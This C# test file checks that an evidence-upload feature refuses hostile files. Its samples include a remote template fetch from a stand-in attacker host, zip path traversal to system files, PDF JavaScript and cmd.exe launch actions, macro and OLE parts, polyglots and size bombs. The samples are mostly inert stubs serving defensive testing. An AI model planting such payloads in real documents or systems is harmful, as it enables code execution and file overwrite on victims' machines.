using System.IO.Compression;
using System.Text;
using Governance.Core.People;
using Governance.Core.Tests.Steps;
using Governance.Core.Tests.Worlds;

namespace Governance.Core.Tests.Evidence;

public class HostileFileTests
{
    private const string Types = "[Content_Types].xml";

    public static TheoryData<string, byte[], string> Hostile => new()
    {
        { "report.docx", Office("word/document.xml", ("word/media/a.bin", new byte[20 * 1024 * 1024])), "grow beyond all measure" },
        { "table.xlsx", Office("xl/workbook.xml", ("xl/worksheets/sheet1.xml", new byte[40 * 1024 * 1024])), "grow beyond all measure" },
        { "many.docx", Office("word/document.xml", [.. Enumerable.Range(0, 10_001).Select(i => ($"word/p{i}.xml", Array.Empty<byte>()))]), "grow beyond all measure" },
        { "macros.docx", Office("word/document.xml", ("word/vbaProject.bin", [1])), "macros" },
        { "macros.xlsx", Office("xl/workbook.xml", ("xl/vbaProject.bin", [1])), "macros" },
        { "old-macros.xlsx", Office("xl/workbook.xml", ("xl/macrosheets/sheet1.xml", [1])), "macros" },
        { "control.pptx", Office("ppt/presentation.xml", ("ppt/activeX/activeX1.bin", [1])), "macros" },
        { "package.docx", Office("word/document.xml", ("word/embeddings/oleObject1.bin", [1])), "embedded programs" },
        { "renamed.docx", Zip((Types, Encoding.UTF8.GetBytes("<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")), ("word/document.xml", [1])), "macros under the name" },
        { "linked.xlsx", Office("xl/workbook.xml", ("xl/externalLinks/externalLink1.xml", [1])), "other workbooks" },
        { "template.docx", Office("word/document.xml", ("word/_rels/settings.xml.rels", Encoding.UTF8.GetBytes("<Relationship Id=\"r1\" Type=\"http://x/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"))), "fetches parts" },
        { "climb.docx", Office("word/document.xml", ("word/../../etc/passwd", [1])), "another folder" },
        { "absolute.docx", Office("word/document.xml", ("/etc/passwd", [1])), "another folder" },
        { "drive.docx", Office("word/document.xml", ("C:\\windows\\a.dll", [1])), "another folder" },
        { "other.xlsx", Office("word/document.xml"), "not what its name says" },
        { "cut.docx", Office("word/document.xml")[..60], "damaged" },
        { "two.pdf", [.. "%PDF-1.7 text "u8, .. Zip(("run.exe", [1, 2, 3]))], "two files in one" },
        { "two.png", [0x89, 0x50, 0x4E, 0x47, 1, 2, 3, .. Zip(("run.exe", [1, 2, 3]))], "two files in one" },
        { "active.pdf", "%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\n%%EOF"u8.ToArray(), "runs when it is opened" },
        { "launch.pdf", "%PDF-1.7\n1 0 obj << /S /Launch /F (cmd.exe) >>\n%%EOF"u8.ToArray(), "runs when it is opened" },
        { "report.pdf.exe", "%PDF-1.7 text"u8.ToArray(), "named like a program" },
        { "page.html", "%PDF-1.7 text"u8.ToArray(), "named like a program" },
        { "picture.png", "%PDF-1.7 text"u8.ToArray(), "holds a PDF" },
        { "bomb.xml", "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">]><lolz>&lol;</lolz>"u8.ToArray(), "declares entities" },
        { "late.csv", [.. Encoding.ASCII.GetBytes("a,b\n" + new string('1', 100_000)), 0, 1, 2], "binary data" },
        { "late-numbers.txt", Encoding.ASCII.GetBytes(new string('x', 90_000) + " 123-45-6789 "), "social security" },
        { "files.zip", Zip(("a.txt", [65])), "archive" },
        { "program.exe", [0x4D, 0x5A, 0x90, 0], "not kept as evidence" },
    };

    [Theory, MemberData(nameof(Hostile))]
    public async Task A_hostile_file_is_refused_with_the_reason_and_nothing_is_stored(string name, byte[] content, string reason)
    {
        ArgumentNullException.ThrowIfNull(content);
        await using var world = await SmallSteps.WorldAsync();
        var number = await world.OpenCaseAsync();

        var result = await world.AddEvidenceAsync(number, world.People.With(Role.Legal).Id, name, content);

        Assert.Equal(ResultKind.Invalid, result.Kind);
        Assert.Contains(reason, result.Problems.Single().Message, StringComparison.Ordinal);
        Assert.Empty(world.Evidence.Hashes);
    }

    [Theory]
    [InlineData("plain.docx", "word/document.xml")]
    [InlineData("plain.xlsx", "xl/workbook.xml")]
    [InlineData("plain.pptx", "ppt/presentation.xml")]
    public async Task An_ordinary_Office_file_with_a_hyperlink_is_kept(string name, string main)
    {
        await using var world = await SmallSteps.WorldAsync();
        var number = await world.OpenCaseAsync();
        var link = Encoding.UTF8.GetBytes("<Relationship Id=\"r1\" Type=\"http://x/relationships/hyperlink\" Target=\"https://vendor.example\" TargetMode=\"External\"/>");

        var result = await world.AddEvidenceAsync(number, world.People.With(Role.Legal).Id, name, Office(main, ("word/_rels/document.xml.rels", link)));

        Assert.True(result.IsDone, World.Said(result));
        Assert.Single(world.Evidence.Hashes);
    }

    private static byte[] Office(string main, params (string Name, byte[] Content)[] parts) => Zip([(Types, "<Types/>"u8.ToArray()), (main, "<x/>"u8.ToArray()), .. parts]);

    private static byte[] Zip(params (string Name, byte[] Content)[] parts)
    {
        using var bytes = new MemoryStream();
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true, Encoding.UTF8))
        {
            foreach (var (name, content) in parts)
            {
                using var entry = archive.CreateEntry(name).Open();
                entry.Write(content);
            }
        }

        return bytes.ToArray();
    }
}
